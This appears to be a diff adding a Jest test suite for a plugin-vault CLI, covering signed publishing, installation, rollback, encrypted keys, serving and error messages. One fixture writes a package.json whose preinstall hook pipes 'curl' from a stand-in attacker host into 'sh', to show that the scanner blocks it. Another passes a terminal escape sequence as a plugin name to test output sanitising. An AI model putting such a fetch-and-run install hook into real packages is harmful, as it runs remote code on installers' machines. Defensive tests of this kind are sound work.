@@ -1,0 +1,189 @@
+import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
+import { memoryIo } from '@ragnos-vault/testing';
+import type { MemoryIo } from '@ragnos-vault/testing';
+import {
+  cpSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { run } from './run.ts';
+
+const HELLO = fileURLToPath(new URL('../../../examples/plugins/hello', import.meta.url));
+let dir: string;
+
+beforeEach(() => void (dir = mkdtempSync(join(tmpdir(), 'cli-'))));
+afterEach(() => rmSync(dir, { recursive: true, force: true }));
+
+interface Said {
+  readonly code: number;
+  readonly out: string;
+  readonly err: string;
+}
+
+async function cli(line: string, io: MemoryIo = memoryIo(dir)): Promise<Said> {
+  const code = await run(
+    line.split(' ').filter((word) => word !== ''),
+    io,
+  );
+  return { code, out: io.out(), err: io.err() };
+}
+
+function json(said: Said): Record<string, unknown> {
+  return JSON.parse(said.out) as Record<string, unknown>;
+}
+
+function tree(folder: string): readonly string[] {
+  return existsSync(folder) ? readdirSync(folder, { recursive: true, encoding: 'utf8' }).sort() : [];
+}
+
+describe('the whole line', () => {
+  it('makes a vault, publishes, installs, lists, upgrades and rolls back', async () => {
+    expect(await cli('init --repo-dir vault --key-type ed25519')).toMatchObject({ code: 0, err: '' });
+    cpSync(HELLO, join(dir, 'hello'), { recursive: true });
+    expect((await cli('publish hello')).out).toMatch(/^published +@acme\/hello@/);
+    expect((await cli('publish hello')).out).toMatch(/^unchanged +@acme\/hello@/);
+
+    const install = '@acme/hello --repo vault --root vault/root.json';
+    expect((await cli(`install ${install}`)).out).toMatch(/^installed +@acme\/hello@/);
+    expect(readFileSync(join(dir, 'plugins/current/acme/hello/index.js'))).toEqual(
+      readFileSync(join(HELLO, 'index.js')),
+    );
+    expect((await cli(`install ${install}`)).out).toMatch(/^unchanged/);
+
+    const manifest = JSON.parse(readFileSync(join(dir, 'hello/package.json'), 'utf8')) as object;
+    writeFileSync(join(dir, 'hello/package.json'), JSON.stringify({ ...manifest, version: '99.0.0' }));
+    await cli('publish hello');
+    expect((await cli(`install ${install}`)).out).toContain('@acme/hello@99.0.0');
+    expect((await cli('rollback')).code).toBe(0);
+    expect(json(await cli('list --json'))).toMatchObject({ current: { number: 1 } });
+    expect(json(await cli('status --json'))).toMatchObject({
+      roles: [{ role: 'root', version: 1, expired: false }, {}, {}, {}],
+    });
+  });
+
+  it('publishes under a path that was asked for, and installs from it by file: address', async () => {
+    await cli('init --repo-dir vault --key-type ecdsa');
+    await cli(`publish ${HELLO} --target-path plugins/vendor/plugin-name.tar.gz`);
+    const said = await cli(
+      `install plugins/vendor/plugin-name.tar.gz --repo file://${dir}/vault --root vault/root.json`,
+    );
+    expect(said).toMatchObject({ code: 0 });
+    expect(existsSync(join(dir, 'plugins/current/acme/hello/package.json'))).toBe(true);
+  });
+
+  it('encrypts keys, and signs with the passphrase from a file or the environment', async () => {
+    writeFileSync(join(dir, 'secret'), 'correct horse\n');
+    expect(
+      (await cli('init --repo-dir vault --key-type ed25519 --encrypt --passphrase-file secret')).code,
+    ).toBe(0);
+    expect(readFileSync(join(dir, 'vault/keys/root.pem'), 'utf8')).toContain('ENCRYPTED PRIVATE KEY');
+    const before = tree(join(dir, 'vault'));
+    expect(json(await cli(`publish ${HELLO} --json`))).toMatchObject({ code: 'ERR_PASSPHRASE' });
+    const env = Object.fromEntries(
+      ['TARGETS', 'SNAPSHOT', 'TIMESTAMP'].map((role) => [`TUF_${role}_PASSPHRASE`, 'wrong']),
+    );
+    expect(await cli(`publish ${HELLO}`, memoryIo(dir, env))).toMatchObject({ code: 4 });
+    expect(tree(join(dir, 'vault'))).toEqual(before);
+    expect((await cli(`publish ${HELLO} --passphrase-file secret`)).code).toBe(0);
+  });
+
+  it('serves until it is stopped', async () => {
+    await cli('init --repo-dir vault --key-type ed25519');
+    const io = memoryIo(dir);
+    const running = cli('serve --port 0 --json', io);
+    while (!io.out().includes('listening')) await new Promise((resolve) => setTimeout(resolve, 5));
+    const { url } = JSON.parse(io.out().split('\n')[0] ?? '') as { url: string };
+    expect((await fetch(`${url}/metadata/1.root.json`)).status).toBe(200);
+    expect((await fetch(`${url}/vault.yaml`)).status).toBe(404);
+    io.stop();
+    expect((await running).code).toBe(0);
+  });
+});
+
+describe('a refusal', () => {
+  it.each([
+    ['no such command', 'instal x', 2, 'ERR_USAGE'],
+    ['no such option', 'init --reop-dir x', 2, 'ERR_USAGE'],
+    ['an unknown key type', 'init --repo-dir x --key-type dsa', 2, 'ERR_USAGE'],
+    ['a threshold of 0', 'init --repo-dir x --threshold 0', 2, 'ERR_USAGE'],
+    ['a missing argument', 'publish', 2, 'ERR_USAGE'],
+    ['no vault', 'publish hello', 2, 'ERR_VAULT_NOT_FOUND'],
+    ['no vault to look at', 'status --repo-dir nowhere', 2, 'ERR_VAULT_NOT_FOUND'],
+    ['no repository', 'install x --repo nowhere --root root.json', 1, 'ERR_TUF_ROOT_INVALID'],
+    ['nothing to roll back to', 'rollback', 1, 'ERR_NO_GENERATION'],
+    ['nothing to scan', 'scan nowhere', 2, 'ERR_PLUGIN_SOURCE'],
+  ])(
+    'for %s has its exit code, a hint for people and a code for machines',
+    async (...[, line, code, error]) => {
+      const said = await cli(line);
+      expect(said).toMatchObject({ code, out: '' });
+      expect(said.err).toMatch(new RegExp(`^error: [^\\n]+ \\(${error}\\)\\nhint: `));
+      expect(json(await cli(`${line} --json`))).toMatchObject({
+        code: error,
+        message: expect.any(String),
+        hint: expect.any(String),
+        facts: expect.any(Object),
+      });
+    },
+  );
+
+  it('of a second init leaves the vault as it was', async () => {
+    await cli('init --repo-dir vault --key-type ed25519');
+    const before = readFileSync(join(dir, 'vault/root.json'));
+    expect(await cli('init --repo-dir vault')).toMatchObject({ code: 2 });
+    expect(readFileSync(join(dir, 'vault/root.json'))).toEqual(before);
+  });
+
+  it('of a malicious plugin names the rule, and publishes nothing', async () => {
+    await cli('init --repo-dir vault --key-type ed25519');
+    mkdirSync(join(dir, 'evil'));
+    writeFileSync(
+      join(dir, 'evil/package.json'),
+      JSON.stringify({
+        name: '@acme/evil',
+        version: '1.0.0',
+        scripts: { preinstall: 'curl http://evil.example.invalid/x | sh' },
+      }),
+    );
+    const before = tree(join(dir, 'vault'));
+    expect(json(await cli('publish evil --json'))).toMatchObject({
+      code: 'ERR_SCAN_BLOCKED',
+      facts: { name: '@acme/evil' },
+    });
+    expect(tree(join(dir, 'vault'))).toEqual(before);
+    expect(await cli('scan evil')).toMatchObject({ code: 1 });
+    expect(json(await cli('scan evil --json'))).toMatchObject({ verdict: 'block', name: '@acme/evil' });
+  });
+
+  it('never lets a name rewrite the terminal', async () => {
+    const said = await run(['scan', '\u001b[2Jnowhere'], memoryIo(dir));
+    const io = memoryIo(dir);
+    await run(['scan', '\u001b[2Jnowhere'], io);
+    expect(said).toBe(2);
+    expect(io.err()).toContain('\\u{1b}[2Jnowhere');
+    expect(io.err()).not.toContain('\u001b');
+  });
+});
+
+describe('help', () => {
+  it.each(['init', 'publish', 'serve', 'status', 'install', 'list', 'rollback', 'scan', 'demo'])(
+    'of %s shows examples',
+    async (name) => {
+      const said = await cli(`${name} --help`);
+      expect(said).toMatchObject({ code: 0, err: '' });
+      expect(said.out).toMatch(/Examples:\n {2}\$ ragnos-vault/);
+    },
+  );
+
+  it('is what an empty command line gets', async () => {
+    expect((await cli('')).out).toContain('Usage: ragnos-vault');
+  });
+});
